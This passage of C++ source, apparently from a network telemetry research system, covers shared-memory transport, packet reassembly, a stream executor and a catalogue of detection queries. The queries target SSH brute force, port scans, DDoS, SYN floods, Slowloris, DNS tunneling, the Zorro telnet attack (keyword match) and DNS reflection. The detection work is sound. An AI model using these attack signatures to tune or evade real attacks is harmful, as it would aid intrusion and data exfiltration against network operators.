        if (h->magic.load(std::memory_order_acquire) == kMagic &&
            h->capacity == total - kHeaderBytes) {
          ShmRing ring;
          ring.base_ = base;
          ring.map_bytes_ = total;
          ring.capacity_ = h->capacity;
          ring.path_ = path;
          return ring;
        }
        ::munmap(base, total);  // creator not done yet; retry
      } else {
        ::close(fd);
      }
    }
    if (std::chrono::steady_clock::now() >= deadline) {
      return "shm ring: timed out waiting for " + path;
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(5));
  }
}

bool ShmRing::write(std::span<const std::byte> src) {
  if (src.size() > capacity_) return false;  // can never fit; caller errors out
  Header* h = hdr();
  const std::uint64_t head = h->head.load(std::memory_order_relaxed);
  const std::uint64_t tail = h->tail.load(std::memory_order_acquire);
  if (capacity_ - (head - tail) < src.size()) return false;
  const std::size_t off = static_cast<std::size_t>(head & (capacity_ - 1));
  const std::size_t first = std::min(src.size(), capacity_ - off);
  std::memcpy(data() + off, src.data(), first);
  if (first < src.size()) {
    std::memcpy(data(), src.data() + first, src.size() - first);
  }
  h->head.store(head + src.size(), std::memory_order_release);
  return true;
}

std::size_t ShmRing::read(std::byte* buf, std::size_t max) {
  Header* h = hdr();
  const std::uint64_t tail = h->tail.load(std::memory_order_relaxed);
  const std::uint64_t head = h->head.load(std::memory_order_acquire);
  const std::size_t avail = static_cast<std::size_t>(head - tail);
  const std::size_t n = std::min(avail, max);
  if (n == 0) return 0;
  const std::size_t off = static_cast<std::size_t>(tail & (capacity_ - 1));
  const std::size_t first = std::min(n, capacity_ - off);
  std::memcpy(buf, data() + off, first);
  if (first < n) std::memcpy(buf + first, data(), n - first);
  h->tail.store(tail + n, std::memory_order_release);
  return n;
}

std::size_t ShmRing::readable() const noexcept {
  const Header* h = hdr();
  return static_cast<std::size_t>(h->head.load(std::memory_order_acquire) -
                                  h->tail.load(std::memory_order_relaxed));
}

}  // namespace sonata::net::transport
