#include "net/transport/reassembly.h"

#include <utility>

namespace sonata::net::transport {

void Reassembly::drain_ready(Source& s, std::vector<Frame>& out) {
  auto it = s.buffered.begin();
  while (it != s.buffered.end() && it->first == s.next) {
    out.push_back(std::move(it->second));
    it = s.buffered.erase(it);
    ++s.next;
    ++s.stats.delivered;
  }
}

void Reassembly::push(Frame f, std::vector<Frame>& out) {
  Source& s = per_source_[f.source];
  if (f.seq < s.next || s.buffered.count(f.seq) != 0) {
    ++s.stats.duplicates;
    return;
  }
  if (f.seq == s.next) {
    out.push_back(std::move(f));
    ++s.next;
    ++s.stats.delivered;
    drain_ready(s, out);
    return;
  }
  // Gap: buffer and wait, unless the arrival is so far ahead that the
  // missing range cannot plausibly still arrive — then give the gaps up
  // and jump the stream forward (resync).
  ++s.stats.reordered;
  s.buffered.emplace(f.seq, std::move(f));
  const std::uint64_t horizon = s.buffered.rbegin()->first;
  if (horizon - s.next >= window_) {
    ++s.stats.resynced;
    // Deliver everything buffered in order; every undelivered sequence
    // strictly below the highest buffered frame is lost exactly once.
    std::uint64_t expected = s.next;
    auto it = s.buffered.begin();
    while (it != s.buffered.end()) {
      s.stats.lost += it->first - expected;
      expected = it->first + 1;
      out.push_back(std::move(it->second));
      ++s.stats.delivered;
      it = s.buffered.erase(it);
    }
    s.next = expected;
  }
}

std::uint64_t Reassembly::flush_to(std::uint16_t source, std::uint64_t end_seq,
                                   std::vector<Frame>& out) {
  Source& s = per_source_[source];
  std::uint64_t lost = 0;
  auto it = s.buffered.begin();
  while (it != s.buffered.end() && it->first < end_seq) {
    lost += it->first - s.next;
    s.next = it->first + 1;
    out.push_back(std::move(it->second));
    ++s.stats.delivered;
    it = s.buffered.erase(it);
  }
  if (s.next < end_seq) {
    lost += end_seq - s.next;
    s.next = end_seq;
  }
  s.stats.lost += lost;
  // Frames buffered past end_seq belong to the next window; deliver any
  // that are now contiguous with the advanced cursor.
  drain_ready(s, out);
  return lost;
}

ReassemblyStats Reassembly::stats(std::uint16_t source) const {
  const auto it = per_source_.find(source);
  return it != per_source_.end() ? it->second.stats : ReassemblyStats{};
}

ReassemblyStats Reassembly::totals() const {
  ReassemblyStats t;
  for (const auto& [src, s] : per_source_) {
    t.delivered += s.stats.delivered;
    t.lost += s.stats.lost;
    t.reordered += s.stats.reordered;
    t.resynced += s.stats.resynced;
    t.duplicates += s.stats.duplicates;
  }
  return t;
}

}  // namespace sonata::net::transport
