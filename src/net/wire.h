// Wire-format serialization and parsing (Ethernet/IPv4/TCP/UDP/ICMP).
//
// This is the boundary the PISA parser model operates on: `serialize` turns
// the in-memory Packet into the bytes a switch would receive, and `parse`
// is the reconfigurable-parser reference implementation (with full bounds
// checking) that reconstructs the Packet, including the DNS parse when the
// packet is port-53 UDP.  pcap I/O round-trips through this module.
#pragma once

#include <cstddef>
#include <optional>
#include <span>
#include <vector>

#include "net/packet.h"

namespace sonata::net {

// Internet checksum (RFC 1071) over a byte range.
[[nodiscard]] std::uint16_t internet_checksum(std::span<const std::byte> data) noexcept;

// Serialize to Ethernet + IPv4 + L4 (+payload). The IPv4 header checksum is
// filled in; MAC addresses are synthetic constants.
[[nodiscard]] std::vector<std::byte> serialize(const Packet& p);

struct ParseOptions {
  bool parse_dns = true;  // decode DNS payloads on UDP port 53
};

// Parse wire bytes back into a Packet. Returns nullopt for malformed or
// non-IPv4 frames. The timestamp is not on the wire; callers set it.
[[nodiscard]] std::optional<Packet> parse(std::span<const std::byte> frame,
                                          const ParseOptions& opts = {});

}  // namespace sonata::net
