// The telemetry query catalogue — the eleven queries of the paper's
// Table 3, expressed in the C++ DSL, plus one extension query (DNS fast
// flux) that exercises dns.rr.name as a refinement key.
//
// Query ids match Table 3 rows. Queries 1-8 touch only L3/L4 header fields
// and form the evaluation set of Figures 7 and 8; queries 9-11 need DNS
// fields or payloads (Figure 9 uses query 10, Zorro).
#pragma once

#include <cstdint>
#include <vector>

#include "query/query.h"

namespace sonata::queries {

struct Thresholds {
  // 1. Newly opened TCP connections: SYNs per destination host.
  std::uint64_t newly_opened = 1000;
  // 2. SSH brute force: distinct sources sending same-sized SSH packets.
  std::uint64_t ssh_brute = 40;
  // 3. Superspreader: distinct destinations per source.
  std::uint64_t superspreader = 200;
  // 4. Port scan: distinct destination ports per source.
  std::uint64_t port_scan = 100;
  // 5. DDoS: distinct sources per destination.
  std::uint64_t ddos = 1000;
  // 6. TCP SYN flood: syn + synack vs. 2*ack imbalance.
  std::uint64_t syn_flood = 500;
  // 7. Incomplete TCP flows: SYNs minus FINs per destination.
  std::uint64_t incomplete_flows = 300;
  // 8. Slowloris: minimum bytes (Th1) and scaled connections-per-byte (Th2).
  std::uint64_t slowloris_bytes = 10000;
  std::uint64_t slowloris_ratio = 500;  // conns * kSlowlorisScale / bytes
  // 9. DNS tunneling: distinct query names resolved per client.
  std::uint64_t dns_tunnel = 100;
  // 10. Zorro: same-size-bucket telnet packets (Th1), keyword packets (Th2).
  std::uint64_t zorro_probes = 50;
  std::uint64_t zorro_keyword = 3;
  // 11. DNS reflection: ANY-type responses per victim.
  std::uint64_t dns_reflection = 500;
  // 12 (extension). Fast flux: resolutions per domain name.
  std::uint64_t fast_flux = 100;
};

// Fixed-point scale for Slowloris' connections-per-byte ratio (integer
// division would truncate the true ratio to zero).
inline constexpr std::uint64_t kSlowlorisScale = 1'000'000;

// Telnet packet-size rounding factor for the Zorro query (power of two so
// the switch can compute it with a shift — paper §2.2).
inline constexpr std::uint64_t kZorroSizeBucket = 32;

// Individual query constructors (validated before return).
query::Query make_newly_opened_tcp(const Thresholds& th, util::Nanos window);
query::Query make_ssh_brute_force(const Thresholds& th, util::Nanos window);
query::Query make_superspreader(const Thresholds& th, util::Nanos window);
query::Query make_port_scan(const Thresholds& th, util::Nanos window);
query::Query make_ddos(const Thresholds& th, util::Nanos window);
query::Query make_syn_flood(const Thresholds& th, util::Nanos window);
query::Query make_incomplete_flows(const Thresholds& th, util::Nanos window);
query::Query make_slowloris(const Thresholds& th, util::Nanos window);
query::Query make_dns_tunnel(const Thresholds& th, util::Nanos window);
query::Query make_zorro(const Thresholds& th, util::Nanos window);
query::Query make_dns_reflection(const Thresholds& th, util::Nanos window);
query::Query make_fast_flux(const Thresholds& th, util::Nanos window);

// The eight header-only queries of Figures 7/8, ids 1-8, in Table 3 order.
std::vector<query::Query> evaluation_queries(const Thresholds& th, util::Nanos window);

// All twelve queries.
std::vector<query::Query> full_catalog(const Thresholds& th, util::Nanos window);

}  // namespace sonata::queries
