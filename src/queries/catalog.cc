#include "queries/catalog.h"

#include <cassert>

#include "net/headers.h"
#include "query/field.h"

namespace sonata::queries {

using namespace query::dsl;  // col, lit, operators
using query::Expr;
using query::NamedExpr;
using query::Query;
using query::QueryBuilder;
using query::ReduceFn;
using util::Nanos;

namespace {

namespace f = query::fields;

constexpr std::uint64_t kTcp = 6;
constexpr std::uint64_t kUdp = 17;
constexpr std::uint64_t kSyn = net::tcp_flags::kSyn;
constexpr std::uint64_t kSynAck = net::tcp_flags::kSyn | net::tcp_flags::kAck;
constexpr std::uint64_t kAck = net::tcp_flags::kAck;
constexpr std::uint64_t kFin = net::tcp_flags::kFin;

query::ExprPtr fcol(std::string_view name) { return col(std::string(name)); }

// The catalog is compiled-in, not user input: a validation failure here is
// a bug in this file, not a runtime condition, so it stays an assert rather
// than an Expected. User-facing paths (DSL parser, control-plane submit)
// return structured errors for the same check.
Query finish(Query q) {
  const std::string err = q.validate();
  assert(err.empty() && "catalog query failed validation");
  (void)err;
  return q;
}

}  // namespace

// 1. Detect hosts with too many newly opened TCP connections (paper Query 1).
Query make_newly_opened_tcp(const Thresholds& th, Nanos window) {
  return finish(QueryBuilder::packet_stream()
                    .filter(fcol(f::kProto) == lit(kTcp) && fcol(f::kTcpFlags) == lit(kSyn))
                    .map({{"dIP", fcol(f::kDstIp)}, {"count", lit(1)}})
                    .reduce({"dIP"}, ReduceFn::kSum, "count")
                    .filter(col("count") > lit(th.newly_opened))
                    .build("newly_opened_tcp", 1, window));
}

// 2. Distributed SSH brute force: many sources send same-sized SSH packets
// to one host (Javed & Paxson).
Query make_ssh_brute_force(const Thresholds& th, Nanos window) {
  return finish(QueryBuilder::packet_stream()
                    .filter(fcol(f::kProto) == lit(kTcp) &&
                            fcol(f::kDstPort) == lit(net::ports::kSsh))
                    .map({{"dIP", fcol(f::kDstIp)},
                          {"len", fcol(f::kPktLen)},
                          {"sIP", fcol(f::kSrcIp)}})
                    .distinct()
                    .map({{"dIP", col("dIP")}, {"len", col("len")}, {"count", lit(1)}})
                    .reduce({"dIP", "len"}, ReduceFn::kSum, "count")
                    .filter(col("count") > lit(th.ssh_brute))
                    .build("ssh_brute_force", 2, window));
}

// 3. Superspreader: a source contacting many distinct destinations.
Query make_superspreader(const Thresholds& th, Nanos window) {
  return finish(QueryBuilder::packet_stream()
                    .map({{"sIP", fcol(f::kSrcIp)}, {"dIP", fcol(f::kDstIp)}})
                    .distinct()
                    .map({{"sIP", col("sIP")}, {"count", lit(1)}})
                    .reduce({"sIP"}, ReduceFn::kSum, "count")
                    .filter(col("count") > lit(th.superspreader))
                    .build("superspreader", 3, window));
}

// 4. Port scan: a source probing many distinct destination ports.
Query make_port_scan(const Thresholds& th, Nanos window) {
  return finish(QueryBuilder::packet_stream()
                    .filter(fcol(f::kProto) == lit(kTcp) && fcol(f::kTcpFlags) == lit(kSyn))
                    .map({{"sIP", fcol(f::kSrcIp)}, {"dPort", fcol(f::kDstPort)}})
                    .distinct()
                    .map({{"sIP", col("sIP")}, {"count", lit(1)}})
                    .reduce({"sIP"}, ReduceFn::kSum, "count")
                    .filter(col("count") > lit(th.port_scan))
                    .build("port_scan", 4, window));
}

// 5. DDoS: many distinct sources hitting one destination.
Query make_ddos(const Thresholds& th, Nanos window) {
  return finish(QueryBuilder::packet_stream()
                    .map({{"sIP", fcol(f::kSrcIp)}, {"dIP", fcol(f::kDstIp)}})
                    .distinct()
                    .map({{"dIP", col("dIP")}, {"count", lit(1)}})
                    .reduce({"dIP"}, ReduceFn::kSum, "count")
                    .filter(col("count") > lit(th.ddos))
                    .build("ddos", 5, window));
}

// 6. TCP SYN flood (NetQRE-style): per host, SYNs plus SYN-ACKs far exceed
// completed handshakes. Three sub-queries joined on the victim address;
// the imbalance test is written without subtraction so unsigned arithmetic
// cannot wrap.
Query make_syn_flood(const Thresholds& th, Nanos window) {
  auto syns = QueryBuilder::packet_stream()
                  .filter(fcol(f::kProto) == lit(kTcp) && fcol(f::kTcpFlags) == lit(kSyn))
                  .map({{"dIP", fcol(f::kDstIp)}, {"syn", lit(1)}})
                  .reduce({"dIP"}, ReduceFn::kSum, "syn");
  auto synacks = QueryBuilder::packet_stream()
                     .filter(fcol(f::kProto) == lit(kTcp) && fcol(f::kTcpFlags) == lit(kSynAck))
                     .map({{"dIP", fcol(f::kSrcIp)}, {"synack", lit(1)}})
                     .reduce({"dIP"}, ReduceFn::kSum, "synack");
  auto acks = QueryBuilder::packet_stream()
                  .filter(fcol(f::kProto) == lit(kTcp) && fcol(f::kTcpFlags) == lit(kAck))
                  .map({{"dIP", fcol(f::kDstIp)}, {"ack", lit(1)}})
                  .reduce({"dIP"}, ReduceFn::kSum, "ack");
  Query q = std::move(syns)
                .join({"dIP"}, std::move(synacks))
                .join({"dIP"}, std::move(acks))
                .filter(col("syn") + col("synack") > lit(2) * col("ack") + lit(th.syn_flood))
                .map({{"dIP", col("dIP")}, {"syn", col("syn")}, {"ack", col("ack")}})
                .build("syn_flood", 6, window);
  // The imbalance predicate is not monotone under key coarsening (normal
  // traffic is ACK-heavy and can mask a victim inside a coarse prefix), so
  // dynamic refinement would risk false negatives (paper §4.1).
  q.set_refinable(false);
  return finish(std::move(q));
}

// 7. Incomplete TCP flows: many more SYNs than FINs per host.
Query make_incomplete_flows(const Thresholds& th, Nanos window) {
  auto syns = QueryBuilder::packet_stream()
                  .filter(fcol(f::kProto) == lit(kTcp) && fcol(f::kTcpFlags) == lit(kSyn))
                  .map({{"dIP", fcol(f::kDstIp)}, {"syn", lit(1)}})
                  .reduce({"dIP"}, ReduceFn::kSum, "syn");
  auto fins = QueryBuilder::packet_stream()
                  .filter(fcol(f::kProto) == lit(kTcp) &&
                          (fcol(f::kTcpFlags) & lit(kFin)) == lit(kFin))
                  .map({{"dIP", fcol(f::kDstIp)}, {"fin", lit(1)}})
                  .reduce({"dIP"}, ReduceFn::kSum, "fin");
  Query q = std::move(syns)
                .join({"dIP"}, std::move(fins))
                .filter(col("syn") > col("fin") + lit(th.incomplete_flows))
                .build("incomplete_flows", 7, window);
  // syn - fin is not monotone under coarsening (FIN-heavy neighbours mask a
  // victim inside a coarse prefix); refinement could miss it.
  q.set_refinable(false);
  return finish(std::move(q));
}

// 8. Slowloris (paper Query 2): hosts with many connections but few bytes.
// The ratio is scaled by kSlowlorisScale because the average needs division,
// which only the stream processor can perform (paper §2.2).
Query make_slowloris(const Thresholds& th, Nanos window) {
  auto conns = QueryBuilder::packet_stream()
                   .filter(fcol(f::kProto) == lit(kTcp))
                   .map({{"dIP", fcol(f::kDstIp)},
                         {"sIP", fcol(f::kSrcIp)},
                         {"sPort", fcol(f::kSrcPort)}})
                   .distinct()
                   .map({{"dIP", col("dIP")}, {"conns", lit(1)}})
                   .reduce({"dIP"}, ReduceFn::kSum, "conns");
  auto bytes = QueryBuilder::packet_stream()
                   .filter(fcol(f::kProto) == lit(kTcp))
                   .map({{"dIP", fcol(f::kDstIp)}, {"bytes", fcol(f::kPktLen)}})
                   .reduce({"dIP"}, ReduceFn::kSum, "bytes")
                   .filter(col("bytes") > lit(th.slowloris_bytes));
  return finish(std::move(conns)
                    .join({"dIP"}, std::move(bytes))
                    .map({{"dIP", col("dIP")},
                          {"ratio", lit(kSlowlorisScale) * col("conns") / col("bytes")}})
                    .filter(col("ratio") > lit(th.slowloris_ratio))
                    .build("slowloris", 8, window));
}

// 9. DNS tunneling (Chimera-style): a client receiving resolutions for very
// many distinct names.
Query make_dns_tunnel(const Thresholds& th, Nanos window) {
  return finish(QueryBuilder::packet_stream()
                    .filter(fcol(f::kProto) == lit(kUdp) &&
                            fcol(f::kSrcPort) == lit(net::ports::kDns) &&
                            fcol(f::kDnsIsResponse) == lit(1))
                    .map({{"dIP", fcol(f::kDstIp)}, {"qname", fcol(f::kDnsQname)}})
                    .distinct()
                    .map({{"dIP", col("dIP")}, {"count", lit(1)}})
                    .reduce({"dIP"}, ReduceFn::kSum, "count")
                    .filter(col("count") > lit(th.dns_tunnel))
                    .build("dns_tunnel", 9, window));
}

// 10. Zorro telnet attack (paper Query 3): hosts receiving many same-sized
// telnet packets followed by payloads containing the keyword.
Query make_zorro(const Thresholds& th, Nanos window) {
  auto probes =
      QueryBuilder::packet_stream()
          .filter(fcol(f::kProto) == lit(kTcp) &&
                  fcol(f::kDstPort) == lit(net::ports::kTelnet))
          .map({{"dIP", fcol(f::kDstIp)},
                {"bucket", fcol(f::kPayloadLen) / lit(kZorroSizeBucket)},
                {"cnt1", lit(1)}})
          .reduce({"dIP", "bucket"}, ReduceFn::kSum, "cnt1")
          .filter(col("cnt1") > lit(th.zorro_probes));
  return finish(QueryBuilder::packet_stream()
                    .filter(fcol(f::kProto) == lit(kTcp) &&
                            fcol(f::kDstPort) == lit(net::ports::kTelnet))
                    .join({"dIP"}, std::move(probes))
                    .filter(Expr::payload_contains(col("payload"), "zorro"))
                    .map({{"dIP", col("dIP")}, {"count2", lit(1)}})
                    .reduce({"dIP"}, ReduceFn::kSum, "count2")
                    .filter(col("count2") > lit(th.zorro_keyword))
                    .build("zorro", 10, window));
}

// 11. DNS reflection: floods of ANY-type responses at a victim.
Query make_dns_reflection(const Thresholds& th, Nanos window) {
  return finish(QueryBuilder::packet_stream()
                    .filter(fcol(f::kProto) == lit(kUdp) &&
                            fcol(f::kSrcPort) == lit(net::ports::kDns) &&
                            fcol(f::kDnsIsResponse) == lit(1) &&
                            fcol(f::kDnsQtype) == lit(net::dns_types::kAny))
                    .map({{"dIP", fcol(f::kDstIp)}, {"count", lit(1)}})
                    .reduce({"dIP"}, ReduceFn::kSum, "count")
                    .filter(col("count") > lit(th.dns_reflection))
                    .build("dns_reflection", 11, window));
}

// 12 (extension). Fast flux: one domain name resolved unusually often —
// keyed on dns.rr.name, demonstrating DNS-hierarchy refinement keys.
Query make_fast_flux(const Thresholds& th, Nanos window) {
  return finish(QueryBuilder::packet_stream()
                    .filter(fcol(f::kProto) == lit(kUdp) &&
                            fcol(f::kSrcPort) == lit(net::ports::kDns) &&
                            fcol(f::kDnsIsResponse) == lit(1))
                    .map({{"qname", fcol(f::kDnsQname)}, {"count", lit(1)}})
                    .reduce({"qname"}, ReduceFn::kSum, "count")
                    .filter(col("count") > lit(th.fast_flux))
                    .build("fast_flux", 12, window));
}

std::vector<Query> evaluation_queries(const Thresholds& th, Nanos window) {
  std::vector<Query> qs;
  qs.push_back(make_newly_opened_tcp(th, window));
  qs.push_back(make_ssh_brute_force(th, window));
  qs.push_back(make_superspreader(th, window));
  qs.push_back(make_port_scan(th, window));
  qs.push_back(make_ddos(th, window));
  qs.push_back(make_syn_flood(th, window));
  qs.push_back(make_incomplete_flows(th, window));
  qs.push_back(make_slowloris(th, window));
  return qs;
}

std::vector<Query> full_catalog(const Thresholds& th, Nanos window) {
  std::vector<Query> qs = evaluation_queries(th, window);
  qs.push_back(make_dns_tunnel(th, window));
  qs.push_back(make_zorro(th, window));
  qs.push_back(make_dns_reflection(th, window));
  qs.push_back(make_fast_flux(th, window));
  return qs;
}

}  // namespace sonata::queries
