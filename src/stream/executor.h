// The stream processor: a windowed dataflow interpreter standing in for
// Spark Streaming (see DESIGN.md substitutions).
//
// Execution model. Tuples are ingested during a window and results are
// produced at window end. A ChainExecutor runs one node's operator chain
// with per-operator keyed state; a tuple may enter at any operator index —
// this is how partitioned execution works:
//   * stateless switch tails stream tuples in at the partition point,
//   * register overflow packets re-enter at the stateful operator that
//     overflowed (the SP re-aggregates them, paper §3.1.3),
//   * end-of-window register polls enter after the reduce (and folded
//     threshold) the switch already applied.
// Joins always run here: children are flushed at window end and hash-joined
// (paper §3.1.2).
#pragma once

#include <cstddef>
#include <cstdint>
#include <memory>
#include <span>
#include <string>
#include <vector>

#include "net/packet.h"
#include "query/query.h"
#include "query/state_spec.h"
#include "state/engine.h"
#include "util/flat_table.h"

namespace sonata::stream {

class ChainExecutor {
 public:
  // Binds evaluators for all operators of `node` (which must be validated
  // and outlive the executor). `spec` selects the keyed-state engines for
  // the chain's distinct/reduce operators (default: exact FlatTable path,
  // bit-identical to pre-engine behavior).
  explicit ChainExecutor(const query::StreamNode& node,
                         const query::StateSpec& spec = {});

  // Run `t` through ops[entry..). Outputs reaching the chain end are
  // buffered for end_window().
  void ingest(query::Tuple t, std::size_t entry);

  // Batched ingest: every tuple in `ts` is MOVED through ops[entry..) —
  // the batched data path hands whole shard buffers over without copying
  // a tuple. Callers must treat `ts` as consumed.
  void ingest_batch(std::span<query::Tuple> ts, std::size_t entry);

  // Flush stateful operators (ascending), collect outputs, clear state.
  [[nodiscard]] std::vector<query::Tuple> end_window();

  // Update a dynamic-refinement filter table executed on the SP side.
  bool set_filter_entries(const std::string& table_name, std::vector<query::Tuple> entries);

  [[nodiscard]] std::uint64_t tuples_ingested() const noexcept { return ingested_; }

  // Total keyed-state entries currently held (distinct sets + reduce maps)
  // — the SP-side analogue of register occupancy.
  [[nodiscard]] std::uint64_t stateful_entries() const noexcept;

  // Entries plus actual memory footprint and the accumulated error bound —
  // a sketch engine's occupancy gauge is meaningless without its (fixed)
  // byte count, so the obs layer publishes both.
  [[nodiscard]] state::StateUsage state_usage() const noexcept;

 private:
  struct BoundOp {
    query::OpKind kind = query::OpKind::kFilter;
    query::Expr::Evaluator pred;                      // filter
    std::vector<query::Expr::Evaluator> match;        // filter_in
    std::string table_name;
    util::FlatSet entries;                            // filter_in (persists windows)
    query::Tuple probe_scratch;                       // reused filter_in probe key
    std::vector<query::Expr::Evaluator> projections;  // map
    std::vector<std::size_t> key_idx;                 // reduce
    std::size_t value_idx = 0;
    query::ReduceFn fn = query::ReduceFn::kSum;
    // per-window keyed state behind the engine facade: exact mode is the
    // PR 4 flat table verbatim, sketch mode bounds memory (DESIGN.md
    // "Keyed-state engines").
    state::DistinctEngine seen;   // distinct
    state::ReduceEngine agg;      // reduce
  };

  void process(query::Tuple&& t, std::size_t i);
  void publish_table_obs();

  const query::StreamNode& node_;
  std::vector<BoundOp> ops_;
  std::vector<query::Tuple> pending_;
  std::uint64_t ingested_ = 0;
  std::uint64_t ingested_pub_ = 0;  // last value published to the registry
};

// Executes a whole (sub)tree: join children recursively, then this node's
// chain.
class NodeExecutor {
 public:
  explicit NodeExecutor(const query::StreamNode& node,
                        const query::StateSpec& spec = {});

  [[nodiscard]] const query::StreamNode& node() const noexcept { return node_; }
  [[nodiscard]] ChainExecutor& chain() noexcept { return chain_; }
  [[nodiscard]] NodeExecutor* left() noexcept { return left_.get(); }
  [[nodiscard]] NodeExecutor* right() noexcept { return right_.get(); }

  // Flush children, join their outputs (if a join node), run them through
  // this node's chain, and flush it.
  [[nodiscard]] std::vector<query::Tuple> end_window();

  // Keyed-state entries across this node's chain and all children.
  [[nodiscard]] std::uint64_t stateful_entries() const noexcept;
  [[nodiscard]] state::StateUsage state_usage() const noexcept;

 private:
  const query::StreamNode& node_;
  std::unique_ptr<NodeExecutor> left_;
  std::unique_ptr<NodeExecutor> right_;
  ChainExecutor chain_;
};

// Stream-processor-side execution of one query. Sources are indexed in the
// same DFS order as Query::sources().
class QueryExecutor {
 public:
  explicit QueryExecutor(const query::Query& q);

  // Ingest a tuple into source `source_index` at operator `entry`.
  void ingest(int source_index, query::Tuple t, std::size_t entry);

  // Batched ingest; tuples in `ts` are moved (see ChainExecutor).
  void ingest_batch(int source_index, std::span<query::Tuple> ts, std::size_t entry);

  // Convenience for unpartitioned (All-SP) execution: materialize the
  // packet once and feed every source at entry 0.
  void ingest_packet(const net::Packet& p);
  void ingest_source_tuple(const query::Tuple& source_tuple);

  // Close the window: run joins and flushes; returns the query's results.
  [[nodiscard]] std::vector<query::Tuple> end_window();

  bool set_filter_entries(const std::string& table_name, std::vector<query::Tuple> entries);

  // Keyed-state entries across the whole executor tree.
  [[nodiscard]] std::uint64_t stateful_entries() const noexcept;
  [[nodiscard]] state::StateUsage state_usage() const noexcept;

  // Number of source entry points (DFS order). Delivery paths fed by an
  // untrusted wire bounds-check their source index against this.
  [[nodiscard]] std::size_t source_count() const noexcept { return sources_.size(); }

  [[nodiscard]] const query::Query& query() const noexcept { return *query_; }
  [[nodiscard]] const query::Schema& output_schema() const {
    return query_->root()->output_schema();
  }

 private:
  const query::Query* query_;
  std::unique_ptr<NodeExecutor> root_;
  std::vector<NodeExecutor*> sources_;  // DFS order, matches Query::sources()
};

}  // namespace sonata::stream
