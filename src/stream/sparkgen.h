// Streaming-driver code generation (paper §5, Figure 6): emit the
// stream-processor side of a partitioned query as a Spark Structured
// Streaming job (Scala). The generated job consumes the emitter's tuple
// stream for one query, applies the operators the switch did NOT execute,
// and reports each window's results back to the runtime.
//
// Like the P4 generator, the output is structured, reviewable code meant to
// drive a real deployment; it is not compiled in this repository.
#pragma once

#include <cstddef>
#include <string>
#include <vector>

#include "query/query.h"

namespace sonata::stream {

struct SparkPipeline {
  const query::StreamNode* node = nullptr;  // validated source chain
  std::size_t partition = 0;                // ops [partition..) run here
  int source_index = 0;
};

// Generate the Spark job for one query: residual per-source chains, then
// join(s) and post-join operators.
[[nodiscard]] std::string generate_spark(const query::Query& q,
                                         const std::vector<SparkPipeline>& sources);

}  // namespace sonata::stream
