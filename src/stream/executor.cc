#include "stream/executor.h"

#include <cassert>

#include "obs/metrics.h"

namespace sonata::stream {

namespace {
// One process-wide counter across every chain: total tuples the stream
// processor side ingested (all queries, all entry points).
obs::Counter& stream_tuples_counter() {
  static obs::Counter& c = obs::Registry::global().counter("sonata_stream_tuples_total");
  return c;
}

// SP-side keyed-state histograms, mirroring the switch's probe-depth and
// occupancy metrics so operators can compare SP vs switch collision
// behaviour. Published once per window from each chain's tables.
obs::Histogram& sp_probe_depth_histogram() {
  static constexpr std::uint64_t kBounds[] = {1, 2, 3, 4, 6, 8};
  static obs::Histogram& h =
      obs::Registry::global().histogram("sonata_sp_probe_depth", kBounds);
  return h;
}

obs::Histogram& sp_table_load_histogram() {
  // Load factor in percent at window close (flat tables grow at 7/8 = 87).
  static constexpr std::uint64_t kBounds[] = {10, 25, 50, 75, 90};
  static obs::Histogram& h =
      obs::Registry::global().histogram("sonata_sp_table_load", kBounds);
  return h;
}

// Drain one flat table's probe tally into the shared histogram and record
// its closing load factor.
template <typename Table>
void publish_one_table(Table& table, obs::Histogram& probes, obs::Histogram& load) {
  std::uint64_t tally[Table::kProbeTallyMax + 1];
  table.drain_probe_tally(tally);
  for (std::size_t d = 1; d <= Table::kProbeTallyMax; ++d) {
    if (tally[d] != 0) probes.observe_n(d, tally[d]);
  }
  if (!table.empty()) {
    load.observe(static_cast<std::uint64_t>(table.load_factor() * 100.0));
  }
}
}  // namespace

using query::OpKind;
using query::Operator;
using query::Schema;
using query::StreamNode;
using query::Tuple;

ChainExecutor::ChainExecutor(const StreamNode& node, const query::StateSpec& spec)
    : node_(node) {
  assert(node_.schemas.size() == node_.ops.size() + 1);
  ops_.reserve(node_.ops.size());
  for (std::size_t i = 0; i < node_.ops.size(); ++i) {
    const Operator& op = node_.ops[i];
    const Schema& in = node_.schemas[i];
    BoundOp bop;
    bop.kind = op.kind;
    switch (op.kind) {
      case OpKind::kFilter:
        bop.pred = op.predicate->bind(in);
        break;
      case OpKind::kFilterIn:
        for (const auto& m : op.match_exprs) bop.match.push_back(m->bind(in));
        bop.table_name = op.table_name;
        break;
      case OpKind::kMap:
        for (const auto& p : op.projections) bop.projections.push_back(p.expr->bind(in));
        break;
      case OpKind::kDistinct:
        bop.seen.configure(spec);
        break;
      case OpKind::kReduce: {
        for (const auto& k : op.keys) {
          const auto idx = in.index_of(k);
          assert(idx);
          bop.key_idx.push_back(*idx);
        }
        const auto vidx = in.index_of(op.value_col);
        assert(vidx);
        bop.value_idx = *vidx;
        bop.fn = op.fn;
        bop.agg.configure(spec, op.fn);
        break;
      }
    }
    ops_.push_back(std::move(bop));
  }
}

void ChainExecutor::ingest(Tuple t, std::size_t entry) {
  ++ingested_;
  process(std::move(t), entry);
}

void ChainExecutor::ingest_batch(std::span<Tuple> ts, std::size_t entry) {
  ingested_ += ts.size();
  for (Tuple& t : ts) process(std::move(t), entry);
}

void ChainExecutor::process(Tuple&& t, std::size_t i) {
  for (; i < ops_.size(); ++i) {
    BoundOp& op = ops_[i];
    switch (op.kind) {
      case OpKind::kFilter:
        if (op.pred(t).as_uint() == 0) return;
        break;
      case OpKind::kFilterIn: {
        // The probe key is rebuilt into a reused scratch tuple (inline
        // storage, no allocation) and hashed exactly once: the flat table
        // reuses the hash for the group probe and the stored-hash compare.
        Tuple& key = op.probe_scratch;
        key.values.clear();
        for (const auto& m : op.match) key.values.push_back(m(t));
        if (!op.entries.contains(key, key.hash())) return;
        break;
      }
      case OpKind::kMap: {
        Tuple next;
        next.values.reserve(op.projections.size());
        for (const auto& p : op.projections) next.values.push_back(p(t));
        t = std::move(next);
        break;
      }
      case OpKind::kDistinct: {
        if (!op.seen.insert_new(t, t.hash())) return;  // duplicate within window
        break;
      }
      case OpKind::kReduce: {
        Tuple key = query::project(t, op.key_idx);
        const std::uint64_t hash = key.hash();
        const std::uint64_t delta = t.at(op.value_idx).as_uint();
        op.agg.update(std::move(key), hash, delta);
        return;  // consumed; flushed at window end
      }
    }
  }
  pending_.push_back(std::move(t));
}

std::vector<Tuple> ChainExecutor::end_window() {
  // Publish the window's ingest tally to the registry in one add — the
